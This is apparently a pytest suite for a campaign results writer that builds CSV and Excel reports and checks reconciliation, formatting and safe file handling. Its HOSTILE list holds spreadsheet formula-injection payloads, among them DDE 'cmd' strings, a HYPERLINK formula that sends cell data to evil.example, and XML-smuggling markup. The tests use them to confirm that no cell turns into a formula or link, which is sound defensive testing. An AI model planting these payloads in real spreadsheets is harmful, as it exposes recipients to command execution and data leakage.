"""Result files: every input row once, totals that reconcile, and no cell that does anything."""

from __future__ import annotations

import csv
import gc
import io
import json
import re
import signal
import stat
import subprocess
import sys
import time
import zipfile
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import openpyxl.cell
import pytest
import python_calamine

from runner.cells import CELL_LIMIT, guard, guard_input, iso_time, unguard
from runner.errors import CampaignError, InputError
from runner.model import SkipReason, Status
from runner.resultbook import SHEET_COLUMNS, ResultBook, result_book
from runner.results import COLUMNS, ResultRow, ResultSet, summary, write_results
from runner.totals import Tally

NOON = 1_795_262_400_000_000  # 2026-11-21T12:00:00Z
OWN = ("name", "Mobile", "city")

BASE = ResultRow(
    row=2,
    phone="905320000002",
    status="accepted",
    reason="",
    detail="",
    code="200",
    queue_id="q-1",
    provider="wapim",
    attempts=1,
    first_attempt_at=NOON + 123_456,
    last_attempt_at=NOON + 123_456,
    delivery="",
    image="https://cdn.example.com/a.jpg",
    caption="Merhaba Ayşe 🌸",
    own=("Ayşe", "+90 532 000 00 02", "İstanbul"),
)

# What a hostile customer list, template or provider reply may hold.
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab first",
    "\rreturn first",
    "\nline first",
    " =1+1",
    "   @x",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060\u00ad+1",
    "\u00a0=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\u3164=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    "{=1+1}",
    "{=SUM(A1:B2)}",
    "http://evil.example/",
    "https://evil.example/x",
    "ftp://evil.example/",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\temp\\foo.xlsx",
    "file:///etc/passwd",
    "<r><t>x</t></r>",
    '<r><t>x</t></r></is></c><c r="ZZ9"><f>1+1</f><v>2</v></c><c r="ZZ10" t="inlineStr"><is><r><t>y</t></r>',
    "_x003D_1+1",
    "_x0041_",
    "]]><f>1+1</f>",
    "</t></is></c><f>1+1</f>",
    "'=1+1",
    "''=1+1",
    "00123",
    "1e5",
    "TRUE",
    "#REF!",
    "x;=1+1",
    "x; \t@y",
    "first\n=HYPERLINK(A1)",
    "first\r\n- second",
    '"quoted", and, commas',
    "\ud800 lone surrogate",
    "\uffff and \ufffe",
    "2026-11-21",
]
FORMULA_STARTS = "=+-@＝＋－＠﹦﹢﹣−\t\r\n"


def listing(folder: Path) -> list[str]:
    return sorted(entry.name for entry in folder.iterdir())


def a_row(number: int | None = 2, **changes: Any) -> ResultRow:
    return BASE._replace(row=number, **changes)


def a_set(rows: Sequence[ResultRow], **changes: Any) -> ResultSet:
    whole = ResultSet(
        campaign="spring-sale",
        provider="wapim",
        sandbox=False,
        columns=OWN,
        phone_column="Mobile",
        read_rows=lambda: iter(rows),
        counts=Counter(Status(row.status) for row in rows),
        input_rows=sum(row.row is not None for row in rows),
        generated_at=NOON,
        run_notes=("plan 3f9a1c",),
        mend=lambda reason: f"how to mend {reason}",
    )
    return replace(whole, **changes)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as text:
        return list(csv.reader(text))


def read_sheet(path: Path, sheet: str = "Results") -> list[list[Any]]:
    book = openpyxl.load_workbook(path)
    try:
        return [list(line) for line in book[sheet].iter_rows(values_only=True)]
    finally:
        book.close()


def calamine_sheet(path: Path, sheet: str = "Results") -> list[list[Any]]:
    return python_calamine.load_workbook(path).get_sheet_by_name(sheet).to_python()


def raw_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def test_every_input_row_comes_out_once_in_order_with_the_columns_in_their_order(tmp_path: Path) -> None:
    rows = [
        a_row(2),
        a_row(3, status="skipped", reason="render_error", detail="column 'city' is blank", attempts=0),
        a_row(5, status="rejected", reason="bad_request", detail="no such user", code="400"),
    ]
    written = write_results(a_set(rows), tmp_path / "spring-sale", ["csv", "xlsx"])

    assert written.reconciled
    lines = read_csv(written.paths["results.csv"])
    assert lines[0] == [*COLUMNS, *OWN]
    assert [line[0] for line in lines[1:]] == ["2", "3", "5"]
    assert [line[3] for line in lines[1:]] == ["", "render_error: column 'city' is blank", "bad_request: no such user"]
    assert lines[1] == [
        *("2", "905320000002", "accepted", "", "200", "q-1", "wapim", "1"),
        *("2026-11-21T12:00:00.123Z", "2026-11-21T12:00:00.123Z", "", "https://cdn.example.com/a.jpg"),
        *("Merhaba Ayşe 🌸", "Ayşe", "'+90 532 000 00 02", "İstanbul"),
    ]
    sheet = read_sheet(written.paths["results.xlsx"])
    assert sheet[0] == [*COLUMNS, *OWN]
    assert [line[0] for line in sheet[1:]] == [2, 3, 5]


def test_the_columns_are_the_documented_ones() -> None:
    assert ", ".join(COLUMNS) == (
        "row, phone, status, reason, code, queue_id, provider, attempts, first_attempt_at, last_attempt_at, delivery, "
        "image, caption"
    )


def test_a_workbook_holds_numbers_as_numbers_times_as_times_and_phones_as_text(tmp_path: Path) -> None:
    written = write_results(a_set([a_row()]), tmp_path, ["xlsx"])
    path = written.paths["results.xlsx"]
    book = openpyxl.load_workbook(path)
    sheet = book["Results"]
    cells = dict(zip([*COLUMNS, *OWN], next(sheet.iter_rows(min_row=2)), strict=True))
    assert (cells["row"].value, cells["attempts"].value) == (2, 1)
    assert (cells["phone"].value, cells["phone"].data_type, cells["phone"].number_format) == ("905320000002", "s", "@")
    assert cells["Mobile"].value == "+90 532 000 00 02"
    assert cells["code"].value == "200"
    assert isinstance(cells["first_attempt_at"], openpyxl.cell.Cell)
    assert cells["first_attempt_at"].is_date
    moment = cells["first_attempt_at"].value
    assert isinstance(moment, datetime)
    assert moment.replace(tzinfo=UTC) == datetime(2026, 11, 21, 12, 0, 0, 123_000, tzinfo=UTC)
    assert cells["first_attempt_at"].number_format == 'yyyy-mm-dd"T"hh:mm:ss.000"Z"'
    book.close()
    assert isinstance(calamine_sheet(path)[1][8], datetime)


def test_a_row_without_an_attempt_has_blank_times(tmp_path: Path) -> None:
    rows = [a_row(status="pending", attempts=0, first_attempt_at=None, last_attempt_at=None)]
    written = write_results(a_set(rows), tmp_path, ["xlsx", "csv"])
    assert read_csv(written.paths["results.csv"])[1][7:10] == ["0", "", ""]
    assert read_sheet(written.paths["results.xlsx"])[1][7:10] == [0, None, None]


def test_rows_no_longer_in_the_audience_come_last_with_a_blank_row_and_blank_own_values(tmp_path: Path) -> None:
    rows = [a_row(2), a_row(None, phone="905320000099", own=())]
    written = write_results(a_set(rows), tmp_path, ["xlsx", "csv"])
    last = read_csv(written.paths["results.csv"])[-1]
    assert (last[0], last[1], last[-3:]) == ("", "905320000099", ["", "", ""])
    assert read_sheet(written.paths["results.xlsx"])[-1][0] is None
    assert written.reconciled
    assert (written.totals.input_rows, written.totals.gone_rows) == (1, 1)


def test_an_own_column_that_bears_a_name_of_ours_gets_a_suffix_and_stays_unique(tmp_path: Path) -> None:
    columns = ("status", "phone", "status (audience)", "Phone")
    rows = [a_row(own=("vip", "+90 532 000 00 02", "gold", "x"))]
    written = write_results(a_set(rows, columns=columns, phone_column="phone"), tmp_path, ["xlsx", "csv"])
    names = read_csv(written.paths["results.csv"])[0]
    assert names[len(COLUMNS) :] == ["status (audience 2)", "phone (audience)", "status (audience)", "Phone"]
    assert len(set(names)) == len(names)
    assert read_sheet(written.paths["results.xlsx"])[0] == names
    assert read_sheet(written.paths["results.xlsx"])[1][len(COLUMNS) :] == list(rows[0].own)


def test_no_hostile_text_becomes_a_formula_a_link_or_a_number_in_the_workbook(tmp_path: Path) -> None:
    rows = [
        a_row(
            number, phone=text, detail=text, code=text, queue_id=text, caption=text, image=text, own=(text, text, text)
        )
        for number, text in enumerate(HOSTILE, 2)
    ]
    rows.append(a_row(900, status="rejected", reason="bad_request", detail=HOSTILE[1]))
    hostile_set = a_set(
        rows, campaign="=1+1", columns=("=1+1", HOSTILE[38], "@c"), run_notes=tuple(HOSTILE), mend=lambda _: "=1+1"
    )
    path = write_results(hostile_set, tmp_path, ["xlsx"]).paths["results.xlsx"]

    parts = raw_xml(path)
    sheets = {name: text for name, text in parts.items() if name.startswith("xl/worksheets/sheet")}
    assert len(sheets) == 3
    for text in sheets.values():
        assert "<f>" not in text
        assert "<f " not in text
        assert "<hyperlink" not in text
    assert not any("relationships/hyperlink" in text for text in parts.values())

    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        assert all(cell.data_type != "f" and cell.hyperlink is None for line in sheet.iter_rows() for cell in line)
    own = [line[len(COLUMNS)] for line in book["Results"].iter_rows(min_row=2, values_only=True)]
    book.close()
    assert all(isinstance(value, str) for value in own)
    by_calamine = [line[len(COLUMNS)] for line in calamine_sheet(path)[1:]]
    harmless = [text for text in HOSTILE if not re.search(r"[\x00-\x1f\ud800-\udfff\ufffe\uffff]", text)]
    assert len(harmless) > 40
    for text in harmless:
        at = HOSTILE.index(text)
        assert by_calamine[at] == text
        assert own[at] == text.replace("_x", "_x005F_x")  # openpyxl does not undo the escape of OOXML's own _xHHHH_


def test_what_no_file_may_hold_becomes_the_replacement_character_and_line_breaks_stay(tmp_path: Path) -> None:
    rows = [a_row(own=("a\x00b\x1bc\x85d", "\ud800x\ufffe", "one\r\ntwo\nthree\tfour"))]
    written = write_results(a_set(rows), tmp_path, ["xlsx", "csv"])
    assert read_csv(written.paths["results.csv"])[1][-3:] == [
        "a\ufffdb\ufffdc\ufffdd",
        "\ufffdx\ufffd",
        "one\r\ntwo\nthree\tfour",
    ]
    assert read_sheet(written.paths["results.xlsx"])[1][-3:] == [
        "a\ufffdb\ufffdc\ufffdd",
        "\ufffdx\ufffd",
        "one\ntwo\nthree\tfour",
    ]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_hostile_text_starts_a_csv_cell_as_a_formula_whatever_separator_the_reader_splits_by(
    tmp_path: Path, separator: str
) -> None:
    rows = [
        a_row(n, detail=text, queue_id=text, caption=text, own=(text, text, text)) for n, text in enumerate(HOSTILE, 2)
    ]
    path = write_results(a_set(rows, columns=("=1", "@b", "c")), tmp_path, ["csv"]).paths["results.csv"]
    if separator == ",":
        cells = [cell for line in read_csv(path) for cell in line]
    else:  # the worst reader: it honours no quotes at all and splits at every line break
        lines = path.read_text(encoding="utf-8-sig").splitlines()
        cells = [cell for line in lines for cell in line.split(separator)]
    unseen = " \t\xa0\u200b\ufeff\u2060\u00ad\u202e\u3164\ufffd"
    assert not [cell for cell in cells if cell.lstrip(unseen).startswith(tuple(FORMULA_STARTS))]
    assert not [cell for cell in cells if separator == "," and cell.startswith(("\t", "\r", "\n"))]


def test_our_own_phone_digits_and_times_are_never_touched(tmp_path: Path) -> None:
    line = read_csv(write_results(a_set([a_row()]), tmp_path, ["csv"]).paths["results.csv"])[1]
    assert line[1] == "905320000002"
    assert line[8] == "2026-11-21T12:00:00.123Z"


@pytest.mark.parametrize("text", ["", "Ayşe", "O'Neil", "'quoted'", "a-b", "x = y", "https://a.example/?b=1;c", "٣٤"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert guard(text) == text
    assert guard_input(text) == text
    assert unguard(text) == text


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "@handle", "\tx", "-cmd|' /C calc'!A0", "+SUM(1)", " =1", "＝1"])
def test_a_guarded_input_cell_can_be_read_back_exactly(text: str) -> None:
    assert guard_input(text) == "'" + text
    assert unguard(guard_input(text)) == text


@pytest.mark.parametrize(
    "text", ["+90 532 000 00 02", "+905320000002", "+90 (532) 000-00-02", "-5", "+3.5", "-1,5", "-"]
)
def test_numbers_and_phones_pass_into_retry_as_they_are_and_are_guarded_in_the_results(text: str) -> None:
    assert guard_input(text) == text
    assert guard(text) == "'" + text


def test_guarding_a_hostile_cell_takes_time_in_proportion_to_its_length() -> None:
    for text in ("\n" * 50_000 + "x=", ";" * 50_000 + "x=", " ;" * 25_000 + "x=", "'" * 50_000 + "x="):
        start = time.perf_counter()
        guard(text)
        guard_input(text)
        assert time.perf_counter() - start < 2


def test_a_value_too_long_for_a_cell_is_cut_and_says_so(tmp_path: Path) -> None:
    long, emoji, markup = "x" * 40_000, "🌸" * 20_000, "<r>" + "&" * 20_000 + "</r>"
    exact = "y" * CELL_LIMIT
    rows = [a_row(2, own=(long, emoji, exact)), a_row(3, own=(markup, "", ""))]
    written = write_results(a_set(rows), tmp_path, ["xlsx", "csv"])
    sheet = read_sheet(written.paths["results.xlsx"])
    for text, original in ((sheet[1][-3], long), (sheet[1][-2], emoji)):
        assert text.endswith(f"… [cut, {len(original)} characters]")
        assert len(text.encode("utf-16-le")) // 2 <= CELL_LIMIT
        assert original.startswith(text.partition("…")[0])
    assert len(sheet[1][-2].encode("utf-16-le")) // 2 > CELL_LIMIT - 2
    assert sheet[1][-1] == exact
    assert sheet[2][-3] == markup
    assert read_csv(written.paths["results.csv"])[1][-3:] == [long, emoji, exact]


def test_the_csv_is_utf8_with_a_mark_for_excel_and_crlf_line_ends(tmp_path: Path) -> None:
    written = write_results(a_set([a_row()]), tmp_path, ["csv"])
    for name in ("results.csv", "retry.csv"):
        data = written.paths[name].read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")
        assert data.endswith(b"\r\n")
        assert data.count(b"\n") == data.count(b"\r\n")


def test_retry_holds_what_certainly_did_not_go_out_in_the_audiences_own_shape(tmp_path: Path) -> None:
    def skipped(number: int, reason: SkipReason) -> ResultRow:
        return a_row(number, status="skipped", reason=reason, own=(reason, "x", ""))

    rows = [
        *(
            a_row(number, status=status, own=(status, "x", ""))
            for number, status in enumerate(Status, 2)
            if status != "skipped"
        ),
        *(skipped(number, reason) for number, reason in enumerate(SkipReason, 20)),
        a_row(None, status="rejected", own=("gone", "x", "")),
    ]
    lines = read_csv(write_results(a_set(rows), tmp_path, []).paths["retry.csv"])
    assert lines[0] == list(OWN)
    assert [line[0] for line in lines[1:]] == [
        *("pending", "claimed", "retry_wait", "rejected", "not_sent"),
        *(
            "invalid_phone",
            "wrong_country",
            "render_error",
            "caption_too_long",
            "media_unusable",
            "expired",
            "cancelled",
        ),
    ]


def test_retry_keeps_the_original_values_and_column_names(tmp_path: Path) -> None:
    own = ("+90 532 000 00 02", " 007 ", "line one\nline two", "=1+1", "-1,5")
    columns = ("phone", "status", "Ünvan", "row", "e")
    rows = [a_row(status="not_sent", own=own)]
    path = write_results(a_set(rows, columns=columns), tmp_path, ["csv"]).paths["retry.csv"]
    header, line = read_csv(path)
    assert tuple(header) == columns
    assert tuple(line) == (*own[:3], "'=1+1", "-1,5")


def test_a_long_audience_continues_on_further_sheets_each_with_its_header(tmp_path: Path) -> None:
    path = tmp_path / "results.xlsx"
    rows = [a_row(number) for number in range(2, 9)]
    results, tally = a_set(rows), Tally()
    with result_book(path, results, sheet_rows=4) as book:
        for row in rows:
            tally.add(row)
            book.add(row)
        book.finish(tally.summary(results), tally.groups())
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Results", "Results 2", "Results 3", "Summary", "Failures"]
    numbers = [[line[0] for line in workbook[name].iter_rows(values_only=True)] for name in workbook.sheetnames[:3]]
    assert numbers == [["row", 2, 3, 4], ["row", 5, 6, 7], ["row", 8]]
    for name, last in zip(workbook.sheetnames[:3], ("4", "4", "2"), strict=True):
        assert workbook[name].auto_filter.ref == f"A1:P{last}"
        assert workbook[name].freeze_panes == "D2"
    workbook.close()


def test_an_audience_too_wide_for_a_sheet_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    columns = tuple(f"c{number}" for number in range(SHEET_COLUMNS))
    with pytest.raises(InputError, match="ask for csv alone"):
        write_results(a_set([a_row(own=columns)], columns=columns), tmp_path / "out", ["xlsx"])
    assert not (tmp_path / "out").exists()


def test_the_summary_sheet_reconciles_and_shows_a_chart(tmp_path: Path) -> None:
    rows = [
        a_row(2),
        a_row(3, status="skipped", reason="duplicate"),
        a_row(4, status="skipped", reason="invalid_phone", phone="n/a"),
        a_row(5, status="unknown", reason="reply_timeout"),
        a_row(None, own=()),
    ]
    path = write_results(a_set(rows), tmp_path, ["xlsx"]).paths["results.xlsx"]
    lines = read_sheet(path, "Summary")
    flat = {line[0]: line for line in lines if line[0]}
    assert flat["accepted"][2] == 2
    assert flat["Sum"][2] == 5
    assert flat["Input rows"][2] == 4
    assert flat["No longer in the audience"][2] == 1
    assert "Totals reconcile: yes" in flat
    assert "plan 3f9a1c" in flat
    assert any("apostrophe" in str(line[0]) for line in lines)
    reasons = {(line[0], line[1]): line[2] for line in lines if line[1]}
    assert reasons["skipped", "duplicate"] == reasons["skipped", "invalid_phone"] == 1
    chart = raw_xml(path)["xl/charts/chart1.xml"]
    assert "<c:barChart>" in chart
    assert re.findall(r"<c:v>(\d+)</c:v>", chart)[:1] == ["2"]


@pytest.mark.parametrize("sandbox", [True, False])
def test_a_sandbox_workbook_says_that_nobody_received_anything(tmp_path: Path, sandbox: bool) -> None:
    written = write_results(a_set([a_row()], sandbox=sandbox), tmp_path, ["xlsx"])
    words = [line[0] for line in read_sheet(written.paths["results.xlsx"], "Summary")]
    assert ("SANDBOX – practice, nobody received anything" in words) is sandbox
    assert json.loads(written.paths["summary.json"].read_bytes())["sandbox"] is sandbox


def test_failures_are_grouped_by_how_to_mend_them_with_a_few_examples(tmp_path: Path) -> None:
    rows = [
        *(a_row(n, status="rejected", reason="bad_request", detail=f"words {n % 5}") for n in range(2, 22)),
        *(a_row(n, status="not_sent", reason="refused", detail="connection refused") for n in range(22, 25)),
        a_row(25, status="skipped", reason="duplicate"),
        a_row(26, status="skipped", reason="invalid_phone", detail="'n/a'"),
        a_row(27, delivery="failed"),
        a_row(28, delivery="read"),
        a_row(29, status="unknown", reason="reply_timeout"),
        a_row(30, status="rejected", reason="no_such_user"),
    ]
    ways = {"bad_request": "Correct the number.", "no_such_user": "Correct the number.", "refused": "Run it again."}
    written = write_results(a_set(rows, mend=lambda reason: ways.get(reason, f"See {reason}.")), tmp_path, ["xlsx"])
    lines = read_sheet(written.paths["results.xlsx"], "Failures")
    assert lines[0] == ["how to mend", "status", "reason", "rows", "example rows", "in words"]
    assert lines[1] == [
        "Correct the number.",
        "rejected",
        "bad_request",
        20,
        "2, 3, 4, 5, 6, 7, 8, 9, 10, 11, …",
        "words 2\nwords 3\nwords 4",
    ]
    assert lines[2][:5] == ["Correct the number.", "rejected", "no_such_user", 1, "30"]
    assert lines[3] == ["Run it again.", "not_sent", "refused", 3, "22, 23, 24", "connection refused"]
    assert {line[2] for line in lines[4:]} == {"invalid_phone", "delivery_failed", "reply_timeout"}


def test_a_campaign_without_failures_says_so(tmp_path: Path) -> None:
    path = write_results(a_set([a_row()]), tmp_path, ["xlsx"]).paths["results.xlsx"]
    assert read_sheet(path, "Failures")[1][0] == "Nothing failed."


def test_an_empty_audience_still_gives_whole_files(tmp_path: Path) -> None:
    written = write_results(a_set([]), tmp_path, ["xlsx", "csv"])
    assert written.reconciled
    assert read_csv(written.paths["results.csv"]) == [[*COLUMNS, *OWN]]
    assert read_sheet(written.paths["results.xlsx"]) == [[*COLUMNS, *OWN]]


def test_the_results_sheet_is_set_up_to_be_read_and_printed(tmp_path: Path) -> None:
    path = write_results(a_set([a_row()]), tmp_path, ["xlsx"]).paths["results.xlsx"]
    book = openpyxl.load_workbook(path)
    sheet = book["Results"]
    assert sheet.freeze_panes == "D2"
    assert sheet.auto_filter.ref == "A1:P2"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$1:$1"
    assert sheet["C2"].fill.fgColor.rgb == "FFC6EFCE"
    assert sheet["M2"].alignment.wrap_text
    book.close()


def test_the_json_summary_has_the_same_totals_and_sorted_keys(tmp_path: Path) -> None:
    rows = [a_row(2), a_row(3, status="skipped", reason="duplicate"), a_row(4, delivery="read")]
    results = a_set(rows)
    written = write_results(results, tmp_path, ["csv"])
    data = written.paths["summary.json"].read_bytes()
    told = json.loads(data)
    assert list(told) == sorted(told)
    assert told["campaign"] == "spring-sale"
    assert told["generated_at"] == "2026-11-21T12:00:00.000Z"
    assert told["input_rows"] == 3
    assert told["totals"] == {**{status.value: 0 for status in Status}, "accepted": 2, "skipped": 1}
    assert told["reasons"] == {"skipped": {"duplicate": 1}}
    assert told["deliveries"] == {"read": 1}
    assert told["reconciled"] is True
    assert told["files"] == ["results.csv", "retry.csv", "summary.json"]
    assert data == replace(summary(results), files=tuple(told["files"])).to_json()


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"input_rows": 3}, "the audience has 3 rows, the results have 2"),
        ({"counts": {Status.ACCEPTED: 3}}, "accepted: the ledger counts 3, the results have 2"),
        ({"counts": {Status.ACCEPTED: 2, Status.UNKNOWN: 1}}, "unknown: the ledger counts 1, the results have 0"),
        ({"counts": {}}, "accepted: the ledger counts 0, the results have 2"),
    ],
)
def test_totals_that_do_not_add_up_are_told_everywhere(tmp_path: Path, changes: dict[str, Any], words: str) -> None:
    written = write_results(a_set([a_row(2), a_row(3)], **changes), tmp_path, ["xlsx", "csv"])
    assert not written.reconciled
    assert words in written.totals.disagreements
    assert json.loads(written.paths["summary.json"].read_bytes())["reconciled"] is False
    shown = [line[0] for line in read_sheet(written.paths["results.xlsx"], "Summary")]
    assert "Totals reconcile: no" in shown
    assert words in shown


@pytest.mark.parametrize("numbers", [(2, 2), (3, 2), (None, 2)])
def test_a_row_that_comes_twice_or_out_of_order_does_not_reconcile(numbers: tuple[int | None, int]) -> None:
    told = summary(a_set([a_row(number) for number in numbers]))
    assert told.disagreements == ("rows repeated or out of order: 2",)


def test_a_status_that_is_none_of_ours_does_not_reconcile() -> None:
    told = summary(a_set([a_row()], counts={}, read_rows=lambda: iter([a_row(status="maybe")])))
    assert "'maybe' is no status" in told.disagreements


def test_a_row_with_more_values_than_columns_is_our_own_bug_and_replaces_nothing(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="row 2 has 4 values for 3 columns"):
        write_results(a_set([a_row(own=("a", "b", "c", "d"))]), tmp_path, ["csv"])
    assert listing(tmp_path) == []


def test_files_are_for_their_owner_alone(tmp_path: Path) -> None:
    folder = tmp_path / "reports" / "spring-sale"
    written = write_results(a_set([a_row()]), folder, ["xlsx", "csv"])
    assert listing(folder) == ["results.csv", "results.xlsx", "retry.csv", "summary.json"]
    assert {stat.S_IMODE(path.stat().st_mode) for path in written.paths.values()} == {0o600}
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_a_format_not_asked_for_is_neither_written_nor_removed(tmp_path: Path) -> None:
    (tmp_path / "results.xlsx").write_bytes(b"an earlier one")
    written = write_results(a_set([a_row()]), tmp_path, ["csv"])
    assert set(written.paths) == {"results.csv", "retry.csv", "summary.json"}
    assert (tmp_path / "results.xlsx").read_bytes() == b"an earlier one"


def test_an_unknown_format_is_refused_with_the_choice(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"pdf: no such format\n.*choose from xlsx, csv"):
        write_results(a_set([a_row()]), tmp_path, ["csv", "pdf"])


def test_an_error_half_way_leaves_every_old_file_as_it_was(tmp_path: Path) -> None:
    def broken() -> Iterator[ResultRow]:
        yield a_row(2)
        yield a_row(3)
        raise CampaignError("the ledger cannot be read")

    results = a_set([a_row(2)])
    before = {name: path.read_bytes() for name, path in write_results(results, tmp_path, ["xlsx", "csv"]).paths.items()}
    with pytest.raises(CampaignError, match="the ledger cannot be read"):
        write_results(replace(results, read_rows=broken), tmp_path, ["xlsx", "csv"])
    assert {name: (tmp_path / name).read_bytes() for name in before} == before
    assert listing(tmp_path) == sorted(before)


def test_the_same_results_give_the_same_bytes(tmp_path: Path) -> None:
    results = a_set([a_row(2), a_row(3, status="rejected", reason="bad_request")])
    first = {name: path.read_bytes() for name, path in write_results(results, tmp_path, ["xlsx", "csv"]).paths.items()}
    again = {name: path.read_bytes() for name, path in write_results(results, tmp_path, ["xlsx", "csv"]).paths.items()}
    assert first == again


def test_times_are_iso_utc_with_milliseconds() -> None:
    assert iso_time(None) == ""
    assert iso_time(NOON) == "2026-11-21T12:00:00.000Z"
    assert datetime.fromisoformat(iso_time(NOON + 999_999)) == datetime(2026, 11, 21, 12, 0, 0, 999_000, tzinfo=UTC)


WRITER = """
import resource, sys, time
from collections import Counter
from pathlib import Path
from runner.model import Status
from runner.results import ResultRow, ResultSet, write_results

how, folder, number = sys.argv[1], Path(sys.argv[2]), int(sys.argv[3])

def rows(many):
    for n in range(2, many + 2):
        if how == "stop" and n == many:
            print("ready", flush=True)
            time.sleep(60)
        yield ResultRow(
            n, f"90532{n:07d}", "accepted", "", "", "200", f"q-{n:032x}", "wapim", 1, n, n, "",
            f"https://a.example/{n}.jpg", f"caption {n} " * 10, (f"name {n} " * 5, f"+90532{n:07d}"),
        )

def results(many):
    counts = Counter({Status.ACCEPTED: many})
    return ResultSet("c", "wapim", False, ("name", "Mobile"), "Mobile", lambda: rows(many), counts, many, 0, (), str)

if how == "full":
    from runner.errors import CampaignError
    resource.setrlimit(resource.RLIMIT_FSIZE, (number, number))
    try:
        write_results(results(2000), folder, sys.argv[4:])
    except CampaignError as error:
        print(error)
elif how == "stop":
    write_results(results(number), folder, ["xlsx", "csv"])
else:
    write_results(results(200), folder, ["xlsx", "csv"])
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert write_results(results(number), folder, ["xlsx", "csv"]).reconciled
    print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


def test_a_writer_killed_half_way_leaves_the_old_files_and_the_next_one_clears_up(tmp_path: Path) -> None:
    results = a_set([a_row()])
    before = {name: path.read_bytes() for name, path in write_results(results, tmp_path, ["xlsx", "csv"]).paths.items()}
    with subprocess.Popen(
        [sys.executable, "-c", WRITER, "stop", str(tmp_path), "500"], stdout=subprocess.PIPE, text=True
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        process.send_signal(signal.SIGKILL)
        process.wait()
    assert {name: (tmp_path / name).read_bytes() for name in before} == before
    assert len(listing(tmp_path)) > len(before)
    write_results(results, tmp_path, ["xlsx", "csv"])
    assert listing(tmp_path) == sorted(before)


@pytest.mark.parametrize(("limit", "formats"), [(100_000, ["csv"]), (100_000, ["xlsx"]), (20_000, ["xlsx"])])
def test_a_full_disk_is_told_in_words_and_without_noise(tmp_path: Path, limit: int, formats: list[str]) -> None:
    done = subprocess.run(
        [sys.executable, "-c", WRITER, "full", str(tmp_path), str(limit), *formats],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert done.stderr == ""
    assert "there is no room left" in done.stdout
    assert listing(tmp_path) == []


def test_a_disk_that_fills_up_while_the_workbook_is_packed_is_told_without_noise(tmp_path: Path) -> None:
    results = a_set([])
    with Path("/dev/full").open("wb", buffering=0) as full:
        book = ResultBook(full, results, sheet_rows=100)
        with pytest.raises(OSError, match="No space left"):
            book.finish(summary(results), ())
        book.release()
    gc.collect()  # an archive that still wanted to write would be reported here, and fail the test


@pytest.mark.parametrize(("rows", "megabytes"), [(10_000, 8), pytest.param(100_000, 40, marks=pytest.mark.slow)])
def test_memory_does_not_grow_with_the_number_of_rows(tmp_path: Path, rows: int, megabytes: int) -> None:
    done = subprocess.run(
        [sys.executable, "-c", WRITER, "measure", str(tmp_path), str(rows)],
        capture_output=True,
        text=True,
        check=True,
        timeout=300,
    )
    assert int(done.stdout) < megabytes


def test_the_summary_reads_the_rows_and_writes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    told = summary(a_set([a_row(2), a_row(3, status="unknown", reason="reply_timeout")]))
    assert told.totals["unknown"] == 1
    assert json.load(io.BytesIO(told.to_json()))["reasons"] == {"unknown": {"reply_timeout": 1}}
    assert listing(tmp_path) == []
